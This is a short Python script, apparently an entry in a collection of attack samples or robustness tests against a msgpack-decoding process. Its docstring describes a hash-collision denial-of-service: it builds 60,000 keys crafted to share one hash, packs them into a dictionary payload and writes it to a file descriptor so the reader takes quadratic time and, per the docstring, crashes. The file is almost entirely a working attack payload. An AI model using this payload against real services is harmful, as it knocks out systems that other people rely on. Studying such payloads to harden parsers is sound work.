"""Answer with a dictionary whose keys all have one hash, which takes its reader's time quadratically.

Ends as: crashed
"""

import os
import struct

import msgpack

PRIME = 2**61 - 1


def attack(*args):
    keys = [((k + 20) * PRIME * 8).to_bytes(12, "little") for k in range(60_000)]
    header = b"".join(map(msgpack.packb, ["d", len(keys)])) + b"".join(map(msgpack.packb, ["i", 12, None])) * len(keys)
    os.write(3, struct.pack(">II", len(header), 12 * len(keys)) + header + b"".join(keys))
